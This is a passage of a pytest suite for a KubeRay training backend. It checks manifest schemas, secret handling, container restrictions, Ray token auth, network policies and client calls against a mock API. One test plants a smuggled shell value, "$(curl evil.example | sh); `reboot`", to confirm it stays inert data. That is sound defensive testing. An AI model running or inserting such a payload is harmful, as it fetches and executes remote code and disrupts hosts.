"""KubeRay backend: rendered manifests against the real KubeRay v1.7.0 CRD schema and Kubernetes schemas, the
platform's policies on them, and the client path against an in-process Kubernetes API (kmock)."""

from __future__ import annotations

import base64
import json
import logging
import queue
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import kmock
import pytest
import yaml
from kubernetes import client as k8s
from pydantic import ValidationError

from tests.support.config import REPO, upstream_schema
from tests.support.kube_api import KubeApiServer
from tests.support.manifests import (
    containers,
    load_crd_schema,
    policy_admits,
    restricted_problems,
    schema_errors,
    validation_problems,
)
from tuneplane.backends.base import BackendJob, RunPhase, RunStatus
from tuneplane.backends.kuberay import (
    ENTRYPOINT,
    GROUP,
    MANAGED_BY,
    PLURAL,
    VERSION,
    KubeRayBackend,
    rayjob_status,
    render_configmap,
    render_network_policy,
    render_rayjob,
)
from tuneplane.backends.kuberay_network import network_policy_name
from tuneplane.config import PlatformConfig
from tuneplane.errors import BackendError
from tuneplane.spec import load_spec, parse_spec

# The real CRD of KubeRay v1.7.0, read in place from ../shared/schemas/ (tests.support.config.upstream_schema).
CRD = "kuberay-v1.7.0/ray.io_rayjobs.yaml"

SECRET_SENTINEL = "sentinel-secret-value-9f2c"
STORAGE_ENV = {
    "AWS_ACCESS_KEY_ID": {"name": "tuneplane-s3", "key": "access-key-id"},
    "AWS_SECRET_ACCESS_KEY": {"name": "tuneplane-s3", "key": "secret-access-key"},
}
H100 = {
    "node_selector": {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3", "pool": "h100"},
    "tolerations": [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
        {"key": "dedicated", "value": "training", "effect": "NoExecute"},
    ],
    "accelerator_type": "H100",
}
MI300 = {"node_selector": {"pool": "mi300"}, "resource_name": "amd.com/gpu"}


def make_config(kueue: bool = False, storage_env: bool = True, **kuberay: Any) -> PlatformConfig:
    return PlatformConfig.model_validate(
        {
            "teams": [{"name": "team-a", "namespace": "ml-team-a", "gpu_pools": ["h100", "mi300"]}],
            "gpu_pools": {"h100": H100, "mi300": MI300},
            "max_job_duration_s": 86400,
            "backend": {
                "type": "kuberay",
                "image": "ghcr.io/tuneplane/runtime:0.1.0",
                "service_account": "tuneplane-jobs",
                "storage_path": "s3://tuneplane/runs",
                "tracking_uri": "http://tuneplane-mlflow:5000",
                # an operator label that tries to take over ours must not win
                "labels": {"cost-center": "ml-research", "app.kubernetes.io/managed-by": "helm"},
                "storage_env": STORAGE_ENV if storage_env else {},
                "kueue": {"enabled": kueue, "queue_name": "{team}-queue"},
                **kuberay,
            },
        }
    )


def make_job(spec_file: str, job_id: str, gpu_pool: str | None = None) -> BackendJob:
    spec = load_spec(REPO / "jobs" / spec_file)
    return BackendJob(id=job_id, team="team-a", namespace="ml-team-a", spec=spec, gpu_pool=gpu_pool)


JOBS = {
    "tiny-cpu": ("tiny-cpu.yaml", "tiny-cpu-20260101-000000"),
    "llama3-8b": ("llama3-8b-lora-zero2.yaml", "llama3-8b-lora-7f3a"),
    "llama3-70b": ("llama3-70b-lora-zero3.yaml", "llama3-70b-lora-0c1d"),
}
CASES = [
    pytest.param(job, kueue, storage, id=f"{job}-kueue{int(kueue)}-secrets{int(storage)}")
    for job in JOBS
    for kueue in (False, True)
    for storage in (True, False)
]


def rendered(name: str, **config: Any) -> dict[str, Any]:
    spec_file, job_id = JOBS[name]
    return render_rayjob(make_job(spec_file, job_id), make_config(**config))


def pod_templates(rayjob: dict[str, Any]) -> dict[str, dict[str, Any]]:
    cluster = rayjob["spec"]["rayClusterSpec"]
    templates = {
        "head": cluster["headGroupSpec"]["template"],
        "submitter": rayjob["spec"]["submitterPodTemplate"],
    }
    for group in cluster["workerGroupSpecs"]:
        templates[f"worker:{group['groupName']}"] = group["template"]
    return templates


def rayjob_containers(rayjob: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for where, template in pod_templates(rayjob).items():
        for container in containers(template["spec"]):
            yield f"{where}/{container['name']}", container


# ---------------------------------------------------------------------------------------------- schema


@pytest.fixture(scope="module")
def crd_schema() -> dict[str, Any]:
    return load_crd_schema(upstream_schema(CRD))


@pytest.mark.parametrize(("name", "kueue", "storage_env"), CASES)
def test_rayjob_validates_against_kuberay_crd(
    crd_schema: dict[str, Any], name: str, kueue: bool, storage_env: bool
) -> None:
    rayjob = rendered(name, kueue=kueue, storage_env=storage_env)
    assert schema_errors(rayjob, crd_schema) == []


@pytest.mark.parametrize("k8s_version", ["1.30.0", "1.33.0"])
@pytest.mark.parametrize("name", list(JOBS))
def test_configmap_and_pod_templates_validate_strictly(name: str, k8s_version: str) -> None:
    spec_file, job_id = JOBS[name]
    job, config = make_job(spec_file, job_id), make_config(kueue=True)
    assert validation_problems(render_configmap(job, config), k8s_version) == []
    # The CRD embeds PodTemplateSpecs; the core schema checks them more closely (strict: no unknown field).
    for where, template in pod_templates(render_rayjob(job, config)).items():
        name = where.replace(":", "-")
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {**template["metadata"], "name": name}}
        pod["spec"] = template["spec"]
        assert validation_problems(pod, k8s_version) == []


def test_unknown_fields_are_rejected(crd_schema: dict[str, Any]) -> None:
    rayjob = rendered("llama3-8b")
    rayjob["spec"]["shutdownAfterJobFinish"] = True  # misspelt
    rayjob["spec"]["rayClusterSpec"]["headGroupSpec"]["rayStartParam"] = {}
    rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]["containers"][0]["cmd"] = [
        "x"
    ]
    assert sorted(schema_errors(rayjob, crd_schema)) == [
        "spec.rayClusterSpec.headGroupSpec.rayStartParam: not in the schema",
        "spec.rayClusterSpec.workerGroupSpecs[0].template.spec.containers[0].cmd: not in the schema",
        "spec.shutdownAfterJobFinish: not in the schema",
    ]
    # and a wrong type is caught by jsonschema itself
    rayjob = rendered("llama3-8b")
    rayjob["spec"]["backoffLimit"] = "3"
    assert any(e.startswith("spec.backoffLimit:") for e in schema_errors(rayjob, crd_schema))
    # the strict Kubernetes schema rejects unknown ConfigMap fields too
    configmap = render_configmap(make_job(*JOBS["tiny-cpu"]), make_config())
    configmap["spec"] = {}
    (problem,) = validation_problems(configmap, "1.30.0")
    assert "'spec' was unexpected" in problem, problem


# ---------------------------------------------------------------------------------------------- policy


@pytest.mark.parametrize("name", list(JOBS))
def test_credentials_only_as_secret_refs(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Values present in the control plane's own environment must never be copied into a manifest.
    for var in STORAGE_ENV:
        monkeypatch.setenv(var, SECRET_SENTINEL)
    spec_file, job_id = JOBS[name]
    job, config = make_job(spec_file, job_id), make_config()
    rayjob, configmap = render_rayjob(job, config), render_configmap(job, config)
    assert SECRET_SENTINEL not in json.dumps(rayjob) + json.dumps(configmap)
    ray_containers = [c for where, c in rayjob_containers(rayjob) if "submitter" not in where]
    assert len(ray_containers) == 2
    for container in ray_containers:
        env = {e["name"]: e for e in container["env"]}
        for var, ref in STORAGE_ENV.items():
            assert env[var] == {"name": var, "valueFrom": {"secretKeyRef": ref}}
        assert env["TUNEPLANE_JOB_ID"] == {"name": "TUNEPLANE_JOB_ID", "value": job_id}
        assert env["TUNEPLANE_STORAGE_PATH"]["value"] == "s3://tuneplane/runs"
        assert env["MLFLOW_TRACKING_URI"]["value"] == "http://tuneplane-mlflow:5000"
        platform_env = {
            "TUNEPLANE_JOB_ID",
            "TUNEPLANE_TEAM",
            "TUNEPLANE_STORAGE_PATH",
            "MLFLOW_TRACKING_URI",
            *STORAGE_ENV,
        }
        assert set(env) - {"TUNEPLANE_ACCELERATOR_TYPE"} == platform_env
    # the submitter only runs `ray job submit`: it gets no credentials
    submitter = next(c for where, c in rayjob_containers(rayjob) if "submitter" in where)
    assert "env" not in submitter


@pytest.mark.parametrize("name", list(JOBS))
def test_every_container_is_restricted(name: str) -> None:
    rayjob = rendered(name)
    found = list(rayjob_containers(rayjob))
    assert [where for where, _ in found] == [
        "head/ray-head",
        "submitter/ray-job-submitter",
        "worker:workers/ray-worker",
    ]
    for where, container in found:
        assert container["image"] == "ghcr.io/tuneplane/runtime:0.1.0", where
        assert container["imagePullPolicy"] == "IfNotPresent", where
    for where, template in pod_templates(rayjob).items():
        spec = template["spec"]
        assert restricted_problems(spec) == [], where
        assert spec["serviceAccountName"] == "tuneplane-jobs", where
        assert spec["automountServiceAccountToken"] is False, where
    # every container owns its settings: no shared sub-objects (which YAML would dump as anchors)
    assert "&id" not in yaml.safe_dump(rayjob)


@pytest.mark.parametrize("name", list(JOBS))
def test_command_is_the_fixed_entrypoint(name: str) -> None:
    rayjob = rendered(name)
    assert rayjob["spec"]["entrypoint"] == "python -m tuneplane.train --spec /etc/tuneplane/spec/spec.yaml"
    assert rayjob["spec"]["entrypoint"] == ENTRYPOINT
    assert "runtimeEnvYAML" not in rayjob["spec"]
    for where, container in rayjob_containers(rayjob):
        # KubeRay builds `ray start` / `ray job submit` itself; we add no command anywhere
        assert "command" not in container and "args" not in container, where


def test_spec_content_reaches_pods_only_as_data() -> None:
    # A spec value that looks like shell must appear nowhere but in the ConfigMap's data.
    job = make_job(*JOBS["tiny-cpu"])
    data = job.spec.to_dict()
    data["data"]["system_prompt"] = "$(curl evil.example | sh); `reboot`"
    job = BackendJob(id=job.id, team=job.team, namespace=job.namespace, spec=parse_spec(data))
    config = make_config()
    assert "evil.example" not in json.dumps(render_rayjob(job, config))
    configmap = render_configmap(job, config)
    assert configmap["metadata"]["name"] == f"{job.id}-spec"
    assert yaml.safe_load(configmap["data"]["spec.yaml"]) == job.spec.to_dict()
    assert parse_spec(yaml.safe_load(configmap["data"]["spec.yaml"])) == job.spec


@pytest.mark.parametrize("name", list(JOBS))
def test_spec_mounted_into_head_and_workers(name: str) -> None:
    rayjob = rendered(name)
    job_id = JOBS[name][1]
    for where in ("head", "worker:workers"):
        pod = pod_templates(rayjob)[where]["spec"]
        volumes = {v["name"]: v for v in pod["volumes"]}
        assert volumes["spec"] == {"name": "spec", "configMap": {"name": f"{job_id}-spec"}}
        assert volumes["dshm"] == {"name": "dshm", "emptyDir": {"medium": "Memory"}}
        mounts = {m["name"]: m for m in pod["containers"][0]["volumeMounts"]}
        assert mounts["spec"] == {"name": "spec", "mountPath": "/etc/tuneplane/spec", "readOnly": True}
        assert mounts["dshm"]["mountPath"] == "/dev/shm"


def test_gpu_resources_and_placement_come_from_the_pool() -> None:
    rayjob = rendered("llama3-70b")  # 32 workers x 1 GPU, 10 CPU, 160Gi on pool h100
    cluster = rayjob["spec"]["rayClusterSpec"]
    (group,) = cluster["workerGroupSpecs"]
    assert group["replicas"] == group["minReplicas"] == group["maxReplicas"] == 32
    pod = group["template"]["spec"]
    assert pod["containers"][0]["resources"] == {
        "requests": {"cpu": "10", "memory": "160Gi"},
        "limits": {"cpu": "10", "memory": "160Gi", "nvidia.com/gpu": "1"},
    }
    assert group["rayStartParams"] == {"num-gpus": "1"}
    assert pod["nodeSelector"] == H100["node_selector"]
    assert pod["tolerations"] == [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
        {"key": "dedicated", "operator": "Equal", "value": "training", "effect": "NoExecute"},
    ]
    head = cluster["headGroupSpec"]
    assert "nodeSelector" not in head["template"]["spec"] and "tolerations" not in head["template"]["spec"]
    assert head["template"]["spec"]["containers"][0]["resources"] == {
        "requests": {"cpu": "2", "memory": "8Gi"},
        "limits": {"cpu": "2", "memory": "8Gi"},
    }
    assert head["rayStartParams"]["num-cpus"] == "0"  # no training on the head
    assert head["serviceType"] == "ClusterIP" and head["enableIngress"] is False


def test_job_pool_overrides_spec_pool_and_its_resource_name() -> None:
    job = make_job(*JOBS["llama3-8b"], gpu_pool="mi300")  # the spec says h100
    (group,) = render_rayjob(job, make_config())["spec"]["rayClusterSpec"]["workerGroupSpecs"]
    pod = group["template"]["spec"]
    assert pod["containers"][0]["resources"]["limits"] == {"cpu": "8", "memory": "96Gi", "amd.com/gpu": "1"}
    assert pod["nodeSelector"] == {"pool": "mi300"}
    assert pod["tolerations"] == []
    assert group["replicas"] == 8


def test_cpu_job_has_no_gpu_and_no_pool() -> None:
    (group,) = rendered("tiny-cpu")["spec"]["rayClusterSpec"]["workerGroupSpecs"]
    pod = group["template"]["spec"]
    assert pod["containers"][0]["resources"] == {"requests": {"cpu": "1"}, "limits": {"cpu": "1"}}
    assert "nodeSelector" not in pod and "tolerations" not in pod
    assert group["rayStartParams"] == {}
    assert group["replicas"] == 2


def test_unknown_pool_and_overlong_id_are_refused() -> None:
    with pytest.raises(BackendError, match="GPU pool 'a100' is not defined"):
        render_rayjob(make_job(*JOBS["llama3-8b"], gpu_pool="a100"), make_config())
    with pytest.raises(BackendError, match="longer than the 47 characters"):
        render_rayjob(make_job("tiny-cpu.yaml", "x" * 48), make_config())


@pytest.mark.parametrize("kueue", [False, True])
def test_kueue_label_and_suspend_only_when_enabled(kueue: bool) -> None:
    rayjob = rendered("llama3-8b", kueue=kueue)
    labels = rayjob["metadata"]["labels"]
    if kueue:
        assert labels["kueue.x-k8s.io/queue-name"] == "team-a-queue"
        assert rayjob["spec"]["suspend"] is True
    else:
        assert "kueue.x-k8s.io/queue-name" not in labels
        assert "suspend" not in rayjob["spec"]


def test_metadata_lifecycle_and_labels() -> None:
    rayjob = rendered("llama3-8b")
    assert rayjob["apiVersion"] == "ray.io/v1" and rayjob["kind"] == "RayJob"
    assert rayjob["metadata"]["name"] == "llama3-8b-lora-7f3a"
    assert rayjob["metadata"]["namespace"] == "ml-team-a"
    assert rayjob["metadata"]["labels"] == {
        "cost-center": "ml-research",
        "app.kubernetes.io/name": "tuneplane",
        "app.kubernetes.io/managed-by": "tuneplane",  # the operator's label does not replace ours
        "tuneplane.io/job-id": "llama3-8b-lora-7f3a",
        "tuneplane.io/team": "team-a",
    }
    for template in pod_templates(rayjob).values():
        assert template["metadata"]["labels"]["tuneplane.io/job-id"] == "llama3-8b-lora-7f3a"
    spec = rayjob["spec"]
    assert spec["shutdownAfterJobFinishes"] is True
    assert spec["ttlSecondsAfterFinished"] == 3600
    assert spec["backoffLimit"] == 0
    assert spec["activeDeadlineSeconds"] == 86400
    assert spec["submissionMode"] == "K8sJobMode"
    assert spec["rayClusterSpec"]["rayVersion"] == "2.60.0"
    assert spec["submitterPodTemplate"]["spec"]["restartPolicy"] == "Never"
    config = make_config(image_pull_policy="Always", service_account=None, ttl_seconds_after_finished=60)
    rayjob = render_rayjob(make_job(*JOBS["tiny-cpu"]), config)
    assert rayjob["spec"]["ttlSecondsAfterFinished"] == 60
    for where, container in rayjob_containers(rayjob):
        assert container["imagePullPolicy"] == "Always", where
    assert all("serviceAccountName" not in t["spec"] for t in pod_templates(rayjob).values())


@pytest.mark.parametrize(
    ("deployment", "job_status", "phase"),
    [
        (None, None, RunPhase.PENDING),
        ("Initializing", "", RunPhase.PENDING),
        ("Suspended", None, RunPhase.PENDING),
        ("Waiting", None, RunPhase.PENDING),
        ("Running", "PENDING", RunPhase.RUNNING),
        ("Running", "RUNNING", RunPhase.RUNNING),
        ("Running", "FAILED", RunPhase.RUNNING),  # may be retried: not terminal until the deployment is
        ("Retrying", "FAILED", RunPhase.RUNNING),
        ("Complete", "SUCCEEDED", RunPhase.SUCCEEDED),
        ("Complete", "FAILED", RunPhase.FAILED),
        ("Complete", "STOPPED", RunPhase.STOPPED),
        ("Failed", "FAILED", RunPhase.FAILED),
        ("Failed", None, RunPhase.FAILED),
        ("ValidationFailed", None, RunPhase.FAILED),
    ],
)
def test_status_mapping(deployment: str | None, job_status: str | None, phase: RunPhase) -> None:
    status = {k: v for k, v in {"jobDeploymentStatus": deployment, "jobStatus": job_status}.items() if v}
    if deployment == "Failed":
        status["message"] = "activeDeadlineSeconds exceeded"
    result = rayjob_status({"metadata": {"name": "x"}, "status": status})
    assert result.phase == phase
    if deployment == "Failed":
        assert result.message == "activeDeadlineSeconds exceeded"
    if deployment == "Suspended":
        assert "admission" in result.message
    assert (
        rayjob_status({"metadata": {"deletionTimestamp": "now"}, "status": status}).phase == RunPhase.STOPPED
    )


# ------------------------------------------------------------------------------- token authentication

RAY_AUTH_ENV = {"RAY_AUTH_MODE", "RAY_AUTH_TOKEN", "RAY_AUTH_TOKEN_PATH"}


def test_vendored_crd_has_token_auth(crd_schema: dict[str, Any]) -> None:
    cluster = crd_schema["properties"]["spec"]["properties"]["rayClusterSpec"]["properties"]
    auth = cluster["authOptions"]["properties"]
    assert set(auth) == {"mode", "secretName", "enableK8sTokenAuth"}
    assert auth["mode"]["enum"] == ["disabled", "token"]


@pytest.mark.parametrize(("name", "kueue"), [(name, kueue) for name in JOBS for kueue in (False, True)])
def test_ray_cluster_requires_a_token_kuberay_generates(name: str, kueue: bool) -> None:
    rayjob = rendered(name, kueue=kueue)
    # No secretName: KubeRay creates the token's Secret and gives head, workers and the K8sJobMode submitter
    # RAY_AUTH_MODE/RAY_AUTH_TOKEN; no enableK8sTokenAuth (unsupported for RayJobs, and no SA token here).
    assert rayjob["spec"]["rayClusterSpec"]["authOptions"] == {"mode": "token"}
    assert rayjob["spec"]["submissionMode"] == "K8sJobMode"
    for where, container in rayjob_containers(rayjob):
        # KubeRay adds its variables only to a container that lacks them: ours would win over its token.
        assert not RAY_AUTH_ENV & {e["name"] for e in container.get("env", [])}, where


def test_config_refuses_what_would_break_token_auth() -> None:
    with pytest.raises(ValidationError, match=r"needs Ray 2\.52\.0 or newer"):
        make_config(ray_version="2.51.2")
    with pytest.raises(ValidationError, match="expected a Ray version"):
        make_config(ray_version="latest")
    assert make_config(ray_version="2.52.0").kuberay.ray_version == "2.52.0"
    token_env = {"RAY_AUTH_TOKEN": {"name": "mine", "key": "token"}}
    with pytest.raises(ValidationError, match="RAY_AUTH_TOKEN: set by the KubeRay operator"):
        PlatformConfig.model_validate({"backend": {"type": "kuberay", "storage_env": token_env}})


# ------------------------------------------------------------------------------------- network policy

JOB_ID = JOBS["llama3-8b"][1]


def pod(namespace: str, labels: dict[str, str]) -> dict[str, Any]:
    """A pod as `policy_admits` sees it (namespaces carry their automatic kubernetes.io/metadata.name)."""
    ns_labels = {"kubernetes.io/metadata.name": namespace}
    return {"namespace": namespace, "namespace_labels": ns_labels, "pod_labels": labels}


def tuneplane(component: str) -> dict[str, str]:
    return {"app.kubernetes.io/name": "tuneplane", "app.kubernetes.io/component": component}


# The job's own pods, then everyone else who might knock.
HEAD = pod("ml-team-a", {"tuneplane.io/job-id": JOB_ID, "ray.io/node-type": "head"})
WORKER = pod("ml-team-a", {"tuneplane.io/job-id": JOB_ID, "ray.io/node-type": "worker"})
SUBMITTER = pod("ml-team-a", {"tuneplane.io/job-id": JOB_ID, "job-name": JOB_ID})
OPERATOR = pod("kuberay-system", {"app.kubernetes.io/name": "kuberay-operator"})
API, MLFLOW = pod("tuneplane", tuneplane("api")), pod("tuneplane", tuneplane("mlflow"))
KUBE_DNS = pod("kube-system", {"k8s-app": "kube-dns"})
OTHER_JOB = pod("ml-team-a", {"tuneplane.io/job-id": "llama3-8b-lora-0000", MANAGED_BY: "tuneplane"})
# Another tenant's pod that copies this job's labels, and one posing as the DNS: their namespaces differ.
IMPOSTOR = pod("ml-team-b", {"tuneplane.io/job-id": JOB_ID, "ray.io/node-type": "head"})
FAKE_DNS = pod("ml-team-b", {"k8s-app": "kube-dns"})
INTERNET = {"ip": "52.216.8.10"}
API_SERVER = {"ip": "10.96.0.1"}

DEFAULT_INGRESS = [
    *[(who, port, True) for who in (HEAD, WORKER, SUBMITTER) for port in (6379, 8265, 10001, 45123)],
    (OPERATOR, 8265, True),
    (OPERATOR, 6379, False),
    (OPERATOR, 10001, False),
    (API, 8265, True),
    (API, 6379, False),
    (MLFLOW, 8265, False),
    *[(who, port, False) for who in (OTHER_JOB, IMPOSTOR) for port in (6379, 8265, 10001, 45123)],
    (KUBE_DNS, 8265, False),
    (INTERNET, 8265, False),
    (API_SERVER, 8265, False),
]
DEFAULT_EGRESS = [
    (KUBE_DNS, 53, "UDP", True),
    (KUBE_DNS, 53, "TCP", True),
    (KUBE_DNS, 9153, "TCP", False),
    (FAKE_DNS, 53, "UDP", False),
    *[(who, 6379, "TCP", True) for who in (HEAD, WORKER, SUBMITTER)],
    (MLFLOW, 5000, "TCP", True),
    (MLFLOW, 22, "TCP", False),
    (INTERNET, 443, "TCP", True),  # the wide object-storage default (documented: tighten it)
    (INTERNET, 80, "TCP", False),
    (INTERNET, 443, "UDP", False),
    (INTERNET, 53, "UDP", False),
    (OTHER_JOB, 6379, "TCP", False),
    (IMPOSTOR, 8265, "TCP", False),
    (API, 8421, "TCP", False),
    (API_SERVER, 6443, "TCP", False),
]
# What an operator who follows the docs configures: the operator's namespace pinned, no API ingress, MLflow
# and object storage by address, a node-local DNS cache.
TIGHT = {
    "kuberay_operator": {
        "peers": [
            {
                "pod_labels": {"app.kubernetes.io/name": "kuberay-operator"},
                "namespace_labels": {"kubernetes.io/metadata.name": "kuberay-system"},
            }
        ],
        "ports": [8265],
    },
    "api": None,
    "dns": [{"cidr": "169.254.20.10/32"}],
    "mlflow": {"peers": [{"cidr": "10.30.0.0/16"}], "ports": [443]},
    "object_storage": {
        "peers": [{"cidr": "10.20.0.0/16", "except_cidrs": ["10.20.5.0/24"]}],
        "ports": [9000],
    },
    "extra_egress": [{"peers": [{"pod_labels": {"app": "minio"}, "namespace_labels": {}}], "ports": [9000]}],
}
ROGUE_OPERATOR = pod("ml-team-b", {"app.kubernetes.io/name": "kuberay-operator"})
TIGHT_INGRESS = [
    (OPERATOR, 8265, True),
    (ROGUE_OPERATOR, 8265, False),
    (API, 8265, False),
    (HEAD, 6379, True),
]
TIGHT_EGRESS = [
    ({"ip": "169.254.20.10"}, 53, "UDP", True),
    (KUBE_DNS, 53, "UDP", False),
    ({"ip": "10.30.4.4"}, 443, "TCP", True),
    (MLFLOW, 5000, "TCP", False),
    ({"ip": "10.20.1.1"}, 9000, "TCP", True),
    ({"ip": "10.20.5.5"}, 9000, "TCP", False),  # except_cidrs
    (pod("storage", {"app": "minio"}), 9000, "TCP", True),
    (INTERNET, 443, "TCP", False),
    (API_SERVER, 443, "TCP", False),
]


def network_policy(**settings: Any) -> dict[str, Any]:
    job = make_job(*JOBS["llama3-8b"])
    return render_network_policy(job, make_config(network_policy=settings))


@pytest.mark.parametrize("k8s_version", ["1.30.0", "1.33.0"])
@pytest.mark.parametrize(
    "settings", [{}, TIGHT, {"dns": [], "mlflow": None}], ids=["default", "tight", "bare"]
)
def test_network_policy_validates_strictly(settings: dict[str, Any], k8s_version: str) -> None:
    policy = network_policy(**settings)
    assert validation_problems(policy, k8s_version) == []
    assert "&id" not in yaml.safe_dump(policy)  # no shared sub-objects


def test_network_policy_selects_every_pod_of_the_job_and_only_them() -> None:
    policy = network_policy()
    assert (
        policy["metadata"]["name"] == network_policy_name(make_job(*JOBS["llama3-8b"])) == f"{JOB_ID}-network"
    )
    assert policy["metadata"]["namespace"] == "ml-team-a"
    assert policy["metadata"]["labels"] == rendered("llama3-8b")["metadata"]["labels"]
    assert policy["spec"]["podSelector"] == {"matchLabels": {"tuneplane.io/job-id": JOB_ID}}
    assert policy["spec"]["policyTypes"] == ["Ingress", "Egress"]  # isolated both ways
    for where, template in pod_templates(rendered("llama3-8b")).items():
        assert template["metadata"]["labels"]["tuneplane.io/job-id"] == JOB_ID, where


def test_network_policy_has_no_open_rule() -> None:
    for settings in ({}, TIGHT):
        spec = network_policy(**settings)["spec"]
        assert all(rule.get("from") for rule in spec["ingress"])  # every ingress rule names its peers
        assert all(rule.get("to") or rule.get("ports") for rule in spec["egress"])
        own = {"podSelector": {"matchLabels": {"tuneplane.io/job-id": JOB_ID}}}
        # The only rules without ports are the job's own pods (Ray's ports are many and partly dynamic).
        assert [r for r in spec["ingress"] + spec["egress"] if "ports" not in r] == [
            {"from": [own]},
            {"to": [own]},
        ]


@pytest.mark.parametrize(("who", "port", "admitted"), DEFAULT_INGRESS)
def test_default_ingress_admits_only_the_job_the_operator_and_the_api(
    who: dict[str, Any], port: int, admitted: bool
) -> None:
    assert policy_admits(network_policy(), "ingress", who, port) is admitted


@pytest.mark.parametrize(("who", "port", "protocol", "admitted"), DEFAULT_EGRESS)
def test_default_egress_admits_only_dns_the_job_mlflow_and_storage(
    who: dict[str, Any], port: int, protocol: str, admitted: bool
) -> None:
    assert policy_admits(network_policy(), "egress", who, port, protocol) is admitted


@pytest.mark.parametrize(("who", "port", "admitted"), TIGHT_INGRESS)
def test_tightened_ingress(who: dict[str, Any], port: int, admitted: bool) -> None:
    assert policy_admits(network_policy(**TIGHT), "ingress", who, port) is admitted


@pytest.mark.parametrize(("who", "port", "protocol", "admitted"), TIGHT_EGRESS)
def test_tightened_egress(who: dict[str, Any], port: int, protocol: str, admitted: bool) -> None:
    assert policy_admits(network_policy(**TIGHT), "egress", who, port, protocol) is admitted


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        # An ingress rule without peers would admit everyone.
        ({"kuberay_operator": {"peers": [], "ports": [8265]}}, r"kuberay_operator\.peers\n.*at least 1 item"),
        ({"api": {"peers": []}}, r"api\.peers\n.*at least 1 item"),
        ({"object_storage": {"ports": []}}, "an egress rule needs peers or ports"),
        ({"extra_egress": [{"peers": []}]}, "an egress rule needs peers or ports"),
        ({"dns": [{}]}, "give pod_labels, namespace_labels or cidr"),
        ({"dns": [{"cidr": "10.0.0.0/8", "pod_labels": {"a": "b"}}]}, "either a cidr or pods"),
        ({"mlflow": {"peers": [{"cidr": "10.0.0.300/8"}]}}, "not a CIDR"),
        ({"mlflow": {"peers": [{"pod_labels": {}, "except_cidrs": ["10.0.0.0/8"]}]}}, "except_cidrs needs"),
        (
            {"mlflow": {"peers": [{"pod_labels": {}}], "ports": [0]}},
            r"ports\.0\n.*greater than or equal to 1",
        ),
        ({"egress": []}, "Extra inputs are not permitted"),
    ],
)
def test_network_policy_settings_that_would_open_it_are_refused(
    settings: dict[str, Any], message: str
) -> None:
    with pytest.raises(ValidationError, match=message):
        make_config(network_policy=settings)


# ------------------------------------------------------------------------------------ client (kmock)


@pytest.fixture(scope="module")
def kube_api() -> Iterator[KubeApiServer]:
    server = KubeApiServer()
    # Listable before the first object exists (the Secrets: KubeRay's, played by a test).
    resources = server.handler.resources
    resources.setdefault("networking.k8s.io/v1/networkpolicies", kmock.ResourceInfo(kind="NetworkPolicy"))
    resources.setdefault("v1/secrets", kmock.ResourceInfo(kind="Secret", namespaced=True))
    resources["networking.k8s.io/v1/networkpolicies"].namespaced = True
    yield server
    server.stop()


def named(request: Any) -> str:
    """The name of the object a kmock request is about: the one in its URL, else the one in its body."""
    return request.name or ((request.data or {}).get("metadata") or {}).get("name", "")


def network_policies(backend: KubeRayBackend, namespace: str) -> list[dict[str, Any]]:
    """The NetworkPolicies stored in `namespace`, as sent (raw JSON, not the client's models)."""
    api = k8s.NetworkingV1Api(backend.api_client)
    response = api.list_namespaced_network_policy(namespace, _preload_content=False)
    return json.loads(response.data)["items"]


@pytest.fixture
def backend(kube_api: KubeApiServer) -> Iterator[KubeRayBackend]:
    backend = KubeRayBackend(make_config(api_server=kube_api.url))  # builds its client from api_server
    yield backend
    backend.close()


def operator_sets_status(backend: KubeRayBackend, job: BackendJob, **status: str) -> None:
    """Play the KubeRay operator: write the RayJob's status subresource."""
    k8s.CustomObjectsApi(backend.api_client).patch_namespaced_custom_object_status(
        GROUP, VERSION, job.namespace, PLURAL, job.id, {"status": status}
    )


def test_server_speaks_kubernetes(kube_api: KubeApiServer, backend: KubeRayBackend) -> None:
    assert k8s.VersionApi(backend.api_client).get_code().major == "1"  # GET /version/


def test_submit_status_watch_cancel(kube_api: KubeApiServer, backend: KubeRayBackend) -> None:
    job = make_job(*JOBS["llama3-8b"])
    custom, core = k8s.CustomObjectsApi(backend.api_client), k8s.CoreV1Api(backend.api_client)

    def rayjobs() -> list[dict[str, Any]]:
        return custom.list_namespaced_custom_object(GROUP, VERSION, job.namespace, PLURAL)["items"]

    def configmaps() -> list[str]:
        return [cm.metadata.name for cm in core.list_namespaced_config_map(job.namespace).items]

    def policies() -> list[str]:
        return [p["metadata"]["name"] for p in network_policies(backend, job.namespace)]

    assert backend.status(job) == RunStatus(RunPhase.MISSING, "no RayJob of this name")
    backend.submit(job)
    (stored,) = rayjobs()
    assert stored == render_rayjob(job, backend.config)
    assert stored["spec"]["rayClusterSpec"]["authOptions"] == {"mode": "token"}
    assert configmaps() == [f"{job.id}-spec"]
    assert network_policies(backend, job.namespace) == [render_network_policy(job, backend.config)]
    # The fence and the spec exist before the RayJob, so no pod of the job ever runs without them.
    posts = [r.resource.plural for r in list(kube_api.handler) if r.method == "POST" and job.id in named(r)]
    assert posts == ["configmaps", "networkpolicies", "rayjobs"]
    backend.submit(job)  # idempotent: the 409s are "already submitted"
    assert len(rayjobs()) == 1 and configmaps() == [f"{job.id}-spec"] and policies() == [f"{job.id}-network"]
    assert backend.status(job).phase == RunPhase.PENDING

    operator_sets_status(backend, job, jobDeploymentStatus="Running", jobStatus="RUNNING")
    assert backend.status(job).phase == RunPhase.RUNNING

    events: queue.Queue[tuple[str, RunStatus] | BaseException | None] = queue.Queue()

    def follow() -> None:
        try:
            for job_id, status in backend.watch(job.namespace, timeout_seconds=20):
                events.put((job_id, status))
                if status.phase == RunPhase.MISSING:
                    break
        except BaseException as exc:  # reported to the test thread
            events.put(exc)
        events.put(None)

    def next_event() -> tuple[str, RunStatus]:
        event = events.get(timeout=15)
        assert isinstance(event, tuple), event
        return event

    watcher = threading.Thread(target=follow, daemon=True)
    watcher.start()
    assert next_event() == (job.id, RunStatus(RunPhase.RUNNING))  # the existing object
    # kmock subscribes the stream to changes just after sending the existing objects: wait for that
    for _ in range(100):
